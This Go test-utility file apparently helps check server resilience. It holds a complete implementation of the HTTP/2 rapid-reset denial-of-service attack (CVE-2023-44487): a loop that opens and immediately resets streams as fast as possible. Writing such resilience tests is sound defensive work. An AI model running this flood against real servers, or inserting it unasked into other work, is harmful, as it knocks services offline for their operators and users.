package testutil

import (
	"bytes"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// RapidReset is the HTTP/2 rapid-reset attack (CVE-2023-44487) on conn,
// a connection to a server speaking h2c with prior knowledge: it opens a
// stream with GET path and resets it at once, as fast as it can, until
// the time end or until a write fails (the server closed the
// connection). Each stream opened and reset adds one to sent. It does
// not read conn: the caller drains it, so that the server is never held
// by a full receive buffer.
func RapidReset(conn net.Conn, path string, end time.Time, sent *atomic.Int64) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	fr := http2.NewFramer(conn, conn)
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for id := uint32(1); time.Now().Before(end); id += 2 {
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", path}} {
			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		sent.Add(1)
	}
	return nil
}
